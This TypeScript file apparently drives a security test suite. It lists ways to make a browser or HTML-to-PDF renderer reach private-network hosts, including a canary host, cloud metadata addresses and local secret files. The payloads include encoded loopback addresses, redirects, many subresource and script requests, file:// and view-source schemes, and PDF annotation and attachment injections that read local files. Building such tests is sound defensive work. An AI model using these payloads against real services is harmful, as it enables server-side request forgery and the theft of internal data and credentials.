import { nameAttacks } from './nameAttacks.ts'

/*
 * Ways to make a browser reach an address that it must not. Each is one page, one redirect or one address; `private` in
 * them is a host of the private network, where a canary listens.
 */

export interface Attack {
  readonly group: string
  readonly name: string
  readonly target: AttackTarget
  /** Name whose answers change after it was looked up once. */
  readonly lookedUp?: string
}

export type AttackTarget =
  /** Asked for as it is, past every check of parameters. */
  | { readonly url: string }
  /** Served by the attacker's site. */
  | {
      readonly page: string
      readonly headers?: Readonly<Record<string, string>>
      readonly status?: number
      /** In a frame of another site, which has its own process. */
      readonly isFramed?: boolean
      /** A page of TLS, which may do more. */
      readonly isSecure?: boolean
    }
  /** Given to be printed. */
  | { readonly html: string }

export interface AttackEnvironment {
  /** `http://attack.test`, perhaps with a port. */
  readonly site: string
  readonly tlsSite: string
  /** A private host with a canary, and how its port is written: empty, or `:8080`. */
  readonly privateHost: string
  readonly port: string
  readonly secretFile: string
}

const literals = [
  '127.0.0.1',
  '127.1',
  '2130706433',
  '0x7f000001',
  '017700000001',
  '0x7f.1',
  '0177.0.0.0x1',
  '0',
  '0.0.0.0',
  '127.0.0.1.',
  '１２７.0.0.1',
  '①②⑦.0.0.1',
  '127。0。0。1',
  '127.255.255.254',
  '[::1]',
  '[::]',
  '[0:0:0:0:0:0:0:1]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[::127.0.0.1]',
  '[64:ff9b::7f00:1]',
  '[2002:7f00:1::]',
  '[fd00::1]',
  '[fe80::1]',
  '10.0.0.1',
  '172.16.0.1',
  '192.168.1.1',
  '169.254.169.254',
  '169.254.43518',
  '100.64.0.1',
  '198.18.0.1',
  '168.63.129.16',
  'localhost',
  'LOCALHOST.',
  'a.localhost',
  'user:password@127.0.0.1',
  '127.0.0.1%2f@127.0.0.1',
]

export function attacksOn(environment: AttackEnvironment): readonly Attack[] {
  return [
    ...literals.map((host) => ({
      group: 'literal',
      name: host,
      target: { url: `http://${host}${environment.port}/` },
    })),
    ...nameAttacks(environment),
    ...tls(environment),
    ...redirects(environment),
    ...subresources(environment).map((attack) => ({ ...attack, target: { page: attack.html } })),
    ...framed(environment),
    ...secure(environment),
    ...schemes(environment),
    ...documents(environment),
  ]
}

function tls({ privateHost, port }: AttackEnvironment): readonly Attack[] {
  return [`https://${privateHost}${port}/`, `https://private.test${port}/`, `http://attack.test:22/`].map((url) => ({
    group: 'port and TLS',
    name: url,
    target: { url },
  }))
}

function redirects(environment: AttackEnvironment): readonly Attack[] {
  const inside = urlOf(environment)
  const byStatus = [301, 302, 303, 307, 308].map((status) => ({
    name: `${status}`,
    target: { page: '', status, headers: { location: inside } },
  }))
  const pages: Record<string, string> = {
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${inside}">`,
    'location =': `<script>location = ${JSON.stringify(inside)}</script>`,
    'location.replace': `<script>location.replace(${JSON.stringify(inside)})</script>`,
    'location of a name': `<script>location = 'http://private.test${environment.port}/'</script>`,
    'form, GET': `<form action="${inside}"></form><script>document.forms[0].submit()</script>`,
    'form, POST': `<form method="post" action="${inside}"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
    'a link that is clicked': `<a href="${inside}">x</a><script>document.links[0].click()</script>`,
    'window.open': `<script>open(${JSON.stringify(inside)})</script>`,
    'a link to a new window': `<a target="_blank" href="${inside}">x</a><script>document.links[0].click()</script>`,
    'a frame that leads the top': `<iframe srcdoc="<script>top.location='${inside}'</script>"></iframe>`,
  }
  return [
    ...byStatus,
    {
      name: '302 to TLS',
      target: { page: '', status: 302, headers: { location: inside.replace('http:', 'https:') } },
    },
    { name: 'Refresh header', target: { page: 'x', headers: { refresh: `0;url=${inside}` } } },
    {
      name: '302 to a file',
      target: { page: '', status: 302, headers: { location: `file://${environment.secretFile}` } },
    },
    ...Object.entries(pages).map(([name, page]) => ({ name, target: { page } })),
  ].map((attack) => ({ group: 'redirect', ...attack }))
}

export interface PageAttack {
  readonly group: string
  readonly name: string
  readonly html: string
}

/** Requests that a page starts automatically. All of them also fit into one page. */
export function subresources(environment: AttackEnvironment): readonly PageAttack[] {
  const host = `${environment.privateHost}${environment.port}`
  const inside = urlOf(environment)
  const script = (code: string): string => `<script>try{${code}}catch(error){}</script>`
  const parts: Record<string, string> = {
    iframe: `<iframe src="${inside}?iframe"></iframe>`,
    'iframe of a name': `<iframe src="http://private.test${environment.port}/?iframe"></iframe>`,
    'iframe srcdoc': `<iframe srcdoc="<img src='${inside}?srcdoc'>"></iframe>`,
    'iframe of data:': `<iframe src="data:text/html,<img src='${inside}?data'>"></iframe>`,
    'iframe of a blob': script(
      `const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src="${inside}?blob">'],{type:'text/html'}));document.documentElement.append(f)`,
    ),
    'iframe that is redirected': `<iframe src="/redirect?frame"></iframe>`,
    img: `<img src="${inside}?img">`,
    'img that is redirected': `<img src="/redirect?img">`,
    'img srcset': `<img srcset="${inside}?srcset 1x">`,
    picture: `<picture><source srcset="${inside}?picture"><img></picture>`,
    'input image': `<input type="image" src="${inside}?input">`,
    script: `<script src="${inside}?script"></script>`,
    'script module': `<script type="module" src="${inside}?module"></script>`,
    'dynamic import': script(`import('${inside}?import').catch(()=>{})`),
    stylesheet: `<link rel="stylesheet" href="${inside}?style">`,
    'css @import': `<style>@import url('${inside}?import');</style>`,
    'css background': `<div style="background:url('${inside}?background')">x</div>`,
    'css font': `<style>@font-face{font-family:f;src:url('${inside}?font')}.f{font-family:f}</style><p class="f">x</p>`,
    'css list image': `<ul><li style="list-style-image:url('${inside}?list')">x</ul>`,
    video: `<video src="${inside}?video" preload="auto"></video>`,
    'video poster': `<video poster="${inside}?poster"></video>`,
    audio: `<audio src="${inside}?audio" preload="auto"></audio>`,
    track: `<video src="/nothing"><track default src="${inside}?track"></video>`,
    object: `<object data="${inside}?object"></object>`,
    embed: `<embed src="${inside}?embed">`,
    'svg image': `<svg><image href="${inside}?svg" width="9" height="9"/></svg>`,
    'svg filter': `<svg><filter id="f"><feImage href="${inside}?filter"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'base href': `<iframe srcdoc="<base href='${inside}'><img src='relative'>"></iframe>`,
    icon: `<link rel="icon" href="${inside}?icon">`,
    prefetch: `<link rel="prefetch" href="${inside}?prefetch">`,
    preload: `<link rel="preload" as="image" href="${inside}?preload">`,
    modulepreload: `<link rel="modulepreload" href="${inside}?modulepreload">`,
    preconnect: `<link rel="preconnect" href="${inside}">`,
    'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${inside}?speculation"]}]}</script>`,
    fetch: script(`fetch('${inside}?fetch').catch(()=>{})`),
    'fetch no-cors': script(`fetch('${inside}?nocors',{mode:'no-cors'}).catch(()=>{})`),
    'fetch keepalive': script(`fetch('${inside}?keepalive',{keepalive:true,mode:'no-cors'}).catch(()=>{})`),
    'fetch POST': script(`fetch('${inside}?post',{method:'POST',body:'x',mode:'no-cors'}).catch(()=>{})`),
    'fetch of TLS': script(`fetch('https://${host}/',{mode:'no-cors'}).catch(()=>{})`),
    XMLHttpRequest: script(`const x=new XMLHttpRequest();x.open('GET','${inside}?xhr');x.send()`),
    sendBeacon: script(`navigator.sendBeacon('${inside}?beacon','x')`),
    EventSource: script(`new EventSource('${inside}?events')`),
    WebSocket: script(`new WebSocket('ws://${host}/')`),
    'WebSocket with TLS': script(`new WebSocket('wss://${host}/')`),
    'WebSocket of a name': script(`new WebSocket('ws://private.test${environment.port}/')`),
    worker: script(
      `new Worker(URL.createObjectURL(new Blob(["fetch('${inside}?worker',{mode:'no-cors'})"],{type:'text/javascript'})))`,
    ),
    'shared worker': script(
      `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${inside}?shared',{mode:'no-cors'})"],{type:'text/javascript'})))`,
    ),
    WebRTC: script(
      `const p=new RTCPeerConnection({iceServers:[{urls:'stun:${environment.privateHost}:3478'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
    ),
    'WebRTC over TCP': script(
      `const p=new RTCPeerConnection({iceServers:[{urls:'turn:${host}?transport=tcp',username:'u',credential:'p'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
    ),
    WebTransport: script(`new WebTransport('https://${environment.privateHost}:3478/').ready.catch(()=>{})`),
    'service worker': script(`navigator.serviceWorker.register('/worker.js').catch(()=>{})`),
    'report-to': `<meta http-equiv="content-security-policy-report-only" content="img-src 'none'; report-uri ${inside}?report">`,
    'link ping': `<a href="#x" ping="${inside}?ping">x</a><script>document.links[0]?.click()</script>`,
    'CSS in an XML page': `<iframe src="data:text/xml,<?xml-stylesheet href='${inside}?xml' type='text/css'?><a/>"></iframe>`,
  }
  return Object.entries(parts).map(([name, html]) => ({ group: 'subresource', name, html }))
}

/** The same in a frame of another site: its process has its own copy of every restriction. */
function framed(environment: AttackEnvironment): readonly Attack[] {
  return subresources(environment).map(({ name, html }) => ({
    group: 'frame',
    name,
    target: { page: html, isFramed: true },
  }))
}

/** The same on a page of TLS. Only there are service workers, WebTransport and speculation rules permitted. */
function secure(environment: AttackEnvironment): readonly Attack[] {
  const secretSite = urlOf(environment).replace('http:', 'https:')
  const inside = urlOf(environment)
  return subresources(environment).map(({ name, html }) => ({
    group: 'TLS page',
    name,
    target: { page: html.replaceAll(inside, secretSite), isSecure: true },
  }))
}

function schemes(environment: AttackEnvironment): readonly Attack[] {
  const { site, secretFile } = environment
  const inside = urlOf(environment)
  return [
    `file://${secretFile}`,
    `FILE://localhost${secretFile}`,
    `view-source:${inside}`,
    `view-source:file://${secretFile}`,
    `data:text/html,<img src="${inside}">`,
    `javascript:location='${inside}'`,
    `chrome://version`,
    `devtools://devtools/bundled/inspector.html?ws=${inside.slice('http://'.length)}`,
    `ftp://${inside.slice('http://'.length)}`,
    `blob:${site}/0`,
    `filesystem:${site}/temporary/x`,
  ].map((url) => ({ group: 'scheme', name: url, target: { url } }))
}

function documents(environment: AttackEnvironment): readonly Attack[] {
  const inside = urlOf(environment)
  const file = `file://${environment.secretFile}`
  const pages: Record<string, string> = {
    'iframe of a file': `<iframe src="${file}" width="900" height="900"></iframe>`,
    'object of a file': `<object data="${file}" width="900" height="900"></object>`,
    'embed of a file': `<embed src="${file}" width="900" height="900">`,
    'fetch of a file': `<p id="p"></p><script>fetch('${file}').then(r=>r.text()).then(t=>p.textContent=t).catch(()=>{})</script>`,
    'XHR of a file': `<p id="p"></p><script>const x=new XMLHttpRequest();x.onload=()=>p.textContent=x.responseText;x.open('GET','${file}');x.send()</script>`,
    'stylesheet of a file': `<link rel="stylesheet" href="${file}">`,
    'location of a file': `<script>location='${file}'</script>`,
    'attachment of a file': `<link rel="attachment" href="${file}"><a rel="attachment" href="${file}">x</a>`,
    'annotation of a file': `<!--mpdf <annotation file="${file}" content="x" /> mpdf--><annotation file="${file}">`,
    'img inside': `<img src="${inside}">`,
    'iframe inside': `<iframe src="${inside}"></iframe>`,
    'attachment inside': `<link rel="attachment" href="${inside}">`,
    'stylesheet inside': `<link rel="stylesheet" href="${inside}">`,
    'meta refresh inside': `<meta http-equiv="refresh" content="0;url=${inside}">`,
    'script inside': `<script src="${inside}"></script>`,
    'svg inside': `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${inside}" width="9" height="9"/></svg>`,
    'base of a file': `<base href="file:///"><iframe src="${environment.secretFile.slice(1)}"></iframe>`,
  }
  return Object.entries(pages).map(([name, html]) => ({ group: 'HTML to PDF', name, target: { html } }))
}

function urlOf({ privateHost, port }: AttackEnvironment): string {
  return `http://${privateHost}${port}/`
}
